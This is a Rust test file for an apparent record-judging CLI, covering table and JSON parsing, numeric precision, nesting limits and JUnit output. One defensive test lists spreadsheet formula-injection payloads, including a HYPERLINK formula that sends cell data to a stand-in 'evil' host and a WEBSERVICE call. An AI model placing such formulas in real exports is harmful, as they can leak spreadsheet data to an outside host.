//! Records as people have them: tables that spreadsheets and data frames write, JSON of odd shapes, and
//! numbers of any length; and what of it comes out again.

#![cfg(feature = "cli")]

use crate::support::{Place, Ran};
use serde_json::{Value, json};

const SEVEN: [&str; 4] = ["-m", "script:Fine.\nScore: 7", "-p", "score"];

fn judge(place: &Place, args: &[&str]) -> Ran {
    place.run(&[&["judge"], args, &SEVEN].concat())
}

fn items(ran: &Ran) -> Vec<Value> {
    ran.lines().iter().map(|line| line["item"].clone()).collect()
}

#[test]
fn tables_of_spreadsheets_and_data_frames_are_read_from_files_and_pipes() {
    let place = Place::new("tables-common");
    let plain = json!({"question": "q", "answer": "a, b"});
    let numbered = json!({"Unnamed: 0": "0", "question": "q", "answer": "a, b"});
    for (name, table, expected) in [
        ("index.csv", ",question,answer\n0,q,\"a, b\"\n", &numbered),
        ("sep.csv", "sep=;\nquestion;answer\nq;a, b\n", &plain),
        ("quoted.csv", "\u{FEFF}\"sep=;\"\r\nquestion;answer\r\nq;a, b\r\n", &plain),
        ("phantom.csv", "question,answer,,\nq,\"a, b\",,\n,,,\n,,,\n", &plain),
        ("ends.csv", "question,answer\nq,\"a, b\",\n", &plain),
        ("header.csv", "question,answer,\nq,\"a, b\"\n", &plain),
        ("bom.csv", "\u{FEFF}question;answer\r\nq;\"a, b\"\r\n;\r\n", &plain),
        ("pipes.csv", "question|answer\nq|a, b\n", &plain),
        ("tabs.csv", "question\tanswer\t\nq\ta, b\t\n", &plain),
        ("index.tsv", "\tquestion\tanswer\n0\tq\ta, b\n", &numbered),
        ("blank.csv", "\n,\nquestion,answer\n\nq,\"a, b\"\n", &plain),
    ] {
        let file = place.file(name, table);
        let ran = judge(&place, &[&file]);
        assert_eq!((ran.code, items(&ran)), (0, vec![expected.clone()]), "{name}: {}", ran.err);
        let piped = place.pipe(&[&["judge", "-"], &SEVEN[..]].concat(), table);
        let is_told = !name.starts_with("blank");
        assert!(!is_told || items(&piped) == [expected.clone()], "{name}: {}", piped.err);
    }
    let more = place.file("more.csv", "question,answer\nq,a,b\nq,c\n");
    let ran = judge(&place, &[&more]);
    assert_eq!((ran.code, ran.lines().len()), (3, 2));
    assert!(ran.err.contains("the row has 3 cells, and the header names 2 columns"), "{}", ran.err);
}

#[test]
fn a_table_with_an_index_column_comes_out_with_it() {
    let place = Place::new("tables-index-out");
    place.file("in.csv", ",question,answer\n0,q,a\n1,q,b\n");
    assert_eq!(judge(&place, &["in.csv", "-o", "out.csv"]).code, 0);
    assert!(place.read("out.csv").starts_with("Unnamed: 0,question,answer,"));
}

#[test]
fn python_lists_in_cells_are_lists_and_what_only_looks_like_one_is_refused() {
    let place = Place::new("tables-lists");
    place.file(
        "pairs.csv",
        "question,answers\nq,\"['one', \"\"it's two\"\"]\"\nq,\"[\"\"one\"\", \"\"two\"\"]\"\nq,\"['one' 'two']\"\n",
    );
    let args = ["judge", "pairs.csv", "-m", "script:Verdict: first", "-p", "pair"];
    let ran = place.run(&args);
    let lines = ran.lines();
    assert_eq!(lines[0]["item"]["answers"], json!(["one", "it's two"]), "{}", ran.err);
    assert_eq!(lines[1]["item"]["answers"], json!(["one", "two"]));
    assert!(
        ran.err.contains("pairs.csv:4: the cell of `answers` looks like a list"),
        "{}",
        ran.err
    );
    assert!(ran.err.contains("hint: write it as JSON"), "{}", ran.err);
}

#[test]
fn json_that_holds_columns_is_refused_with_what_to_do() {
    let place = Place::new("tables-columns");
    for (name, text, says) in [
        (
            "lists.json",
            "{\"question\": [\"q\", \"r\"], \"answer\": [\"a\", \"b\"]}",
            "it holds columns",
        ),
        (
            "lists.jsonl",
            "{\"question\": [\"q\", \"r\"], \"answer\": [\"a\", \"b\"]}",
            "it holds columns",
        ),
        (
            "frame.json",
            "{\"question\": {\"0\": \"q\"}, \"answer\": {\"0\": \"a\"}}",
            "it holds columns",
        ),
        (
            "split.json",
            "{\"columns\": [\"answer\"], \"index\": [0], \"data\": [[\"a\"]]}",
            "it holds columns",
        ),
        (
            "index.json",
            "{\"0\": {\"answer\": \"a\"}, \"1\": {\"answer\": \"b\"}}",
            "records under numbers",
        ),
        (
            "data.json",
            "{\"data\": [{\"answer\": \"a\"}, {\"answer\": \"b\"}]}",
            "in the field `data`",
        ),
    ] {
        let file = place.file(name, text);
        let ran = judge(&place, &[&file]);
        assert_eq!(ran.code, 3, "{name}");
        assert!(ran.err.contains(says) && ran.err.contains("hint: "), "{name}: {}", ran.err);
    }
}

#[test]
fn json_over_several_lines_is_read_whatever_its_name_says() {
    let place = Place::new("tables-spread");
    let spread = "{\n  \"answer\": \"a\"\n}\n{\n  \"answer\": \"b\"\n}\n";
    let list = "[\n  {\"answer\": \"a\"},\n  {\"answer\": \"b\"}\n]\n";
    for (name, text) in
        [("s.jsonl", spread), ("l.jsonl", list), ("s.ndjson", spread), ("s.json", spread)]
    {
        let file = place.file(name, text);
        let ran = judge(&place, &[&file]);
        assert_eq!((ran.code, ran.lines().len()), (0, 2), "{name}: {}", ran.err);
    }
    assert_eq!(place.pipe(&[&["judge", "-"], &SEVEN[..]].concat(), spread).lines().len(), 2);
}

#[test]
fn numbers_are_kept_to_the_last_digit_in_ids_prompts_and_lines() {
    let place = Place::new("tables-numbers");
    let record = |n: &str| format!("{{\"id\": {n}, \"question\": \"q\", \"answer\": {n}}}\n");
    let numbers = [
        "12345678901234567890123",
        "12345678901234567890124",
        "-98765432109876543210",
        "9007199254740993",
        "18446744073709551615",
        "3.14159265358979323846",
        "1e400",
        "0.1",
    ];
    place.file("n.jsonl", numbers.map(record).concat());
    place.file("n.json", format!("[{}]", numbers.map(record).join(",")));
    for name in ["n.jsonl", "n.json"] {
        let ran = judge(&place, &[name]);
        assert_eq!(ran.code, 0, "{}", ran.err);
        for (line, number) in ran.lines().iter().zip(numbers) {
            assert_eq!(line["id"], number);
            let kept = line["item"]["answer"].to_string();
            assert_eq!(kept.trim_matches('"'), number);
        }
    }
    let dry = judge(&place, &["n.jsonl", "--dry-run"]);
    assert!(dry.out.contains("12345678901234567890123"), "{}", dry.out);
    // What cannot be a number of 64 bits is a text from then on.
    let ran = judge(&place, &["n.jsonl", "-o", "out.jsonl"]);
    assert_eq!(ran.code, 0);
    assert!(place.read("out.jsonl").contains("\"answer\":\"12345678901234567890123\""));
    assert!(place.read("out.jsonl").contains("\"answer\":9007199254740993"));
    let again = judge(&place, &["n.jsonl", "-o", "out.jsonl"]);
    assert!(again.err.contains("8 of them by an earlier run"), "{}", again.err);
}

#[test]
fn what_is_nested_too_deeply_is_refused_when_it_is_read_and_costs_no_call() {
    let place = Place::new("tables-deep");
    let nested = |levels: usize| {
        format!(
            "{{\"question\": \"q\", \"answer\": \"a\", \"x\": {}{}}}\n",
            "[".repeat(levels - 1),
            "]".repeat(levels - 1)
        )
    };
    for levels in [101, 126, 127, 128] {
        place.file("deep.jsonl", nested(levels) + &nested(100));
        place.file("deep.json", format!("[{},{}]", nested(levels), nested(100)));
        for (input, output) in
            [("deep.jsonl", "v.csv"), ("deep.jsonl", "v.json"), ("deep.json", "v.jsonl")]
        {
            let ran = judge(&place, &[input, "-o", output, "--fresh"]);
            assert_eq!(ran.code, 3, "{levels}");
            assert!(ran.err.contains("nested deeper than 100 levels"), "{levels}: {}", ran.err);
            assert!(ran.err.contains(&format!("{input}:1")), "{levels}: {}", ran.err);
            assert!(ran.err.contains("1 of 2 records judged, 1 failed"), "{levels}: {}", ran.err);
            // What failed can be tried again: a table keeps its journal for that.
            let journal = place.folder.path(&format!("{output}.partial.jsonl"));
            assert_eq!(journal.exists(), output != "v.jsonl", "{output}");
        }
    }
}

#[test]
fn a_key_that_comes_twice_with_two_values_is_refused() {
    let place = Place::new("tables-twice");
    place.file(
        "r.jsonl",
        "{\"answer\": \"a\", \"answer\": \"b\"}\n{\"answer\": \"a\", \"answer\": \"a\"}\n{\"answer\": \"c\", \"x\": {\"k\": 1, \"k\": 2}}\n",
    );
    let ran = judge(&place, &["r.jsonl"]);
    assert_eq!((ran.code, ran.lines().len()), (3, 3));
    assert!(ran.err.contains("r.jsonl:1: the key `answer` occurs twice"), "{}", ran.err);
    assert!(ran.err.contains("r.jsonl:3: the key `k` occurs twice"), "{}", ran.err);
    assert_eq!(ran.lines()[1]["score"], 7);
}

#[test]
fn no_cell_of_a_table_is_a_formula_and_a_table_that_is_read_again_keeps_the_apostrophe() {
    let place = Place::new("tables-formula");
    let hostile = [
        "=1+1",
        "- HYPERLINK(\"http://evil/?\"&A1,\"x\")",
        "- 1+WEBSERVICE(A1)",
        " =1+1",
        "\u{3000}＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "\u{FEFF}=1",
        "\t=1",
        "\r=1",
        "\n=1",
        "@x",
        "-x",
        "+x",
        "-inf",
    ];
    let records: String = hostile
        .iter()
        .map(|text| json!({"=header": "x", "answer": text}).to_string() + "\n")
        .chain([json!({"=header": "x", "answer": "-5.5e3"}).to_string() + "\n"])
        .collect();
    place.file("r.jsonl", records);
    let tables = [
        (judge(&place, &["r.jsonl", "--format", "csv", "-q"]).out, b','),
        (judge(&place, &["r.jsonl", "--format", "tsv", "-q"]).out, b'\t'),
        (
            {
                judge(&place, &["r.jsonl", "-o", "v.csv", "-q"]).assert_passed();
                place.read("v.csv")
            },
            b',',
        ),
    ];
    for (table, delimiter) in tables {
        let mut reader =
            csv::ReaderBuilder::new().delimiter(delimiter).from_reader(table.as_bytes());
        assert_eq!(&reader.headers().unwrap()[0], "'=header");
        let cells: Vec<String> = reader.records().map(|row| row.unwrap()[1].to_owned()).collect();
        for (cell, text) in cells.iter().zip(hostile) {
            assert_eq!(*cell, format!("'{text}"));
        }
        assert_eq!(cells.last().unwrap(), "-5.5e3");
    }
    let again = judge(&place, &["v.csv", "--format", "jsonl"]);
    assert_eq!(items(&again)[0]["answer"], "'=1+1", "{}", again.err);
}

#[test]
fn a_junit_report_is_well_formed_whatever_records_and_critiques_hold() {
    let place = Place::new("tables-junit");
    place.file(
        "r.jsonl",
        json!({"id": "a\u{FFFE}b\u{FFFF}c\u{0}\u{1b}[0m]]>", "question": "q", "answer": "a"})
            .to_string(),
    );
    let reply = "script:Odd \u{FFFE} and \u{FFFF} ]]> &amp; \u{8}.\nScore: 7";
    let args =
        ["judge", "r.jsonl", "-m", reply, "-p", "score", "--pass", "score > 8", "--junit", "j.xml"];
    place.run(&args).assert_passed();
    let xml = place.read("j.xml");
    let allowed = |c: char| {
        matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}')
            || c > '\u{FFFF}'
    };
    assert!(xml.chars().all(allowed), "{xml:?}");
    assert!(xml.contains("a\\u{fffe}b\\u{ffff}c") && xml.contains("Odd \\u{fffe} and"), "{xml}");
}
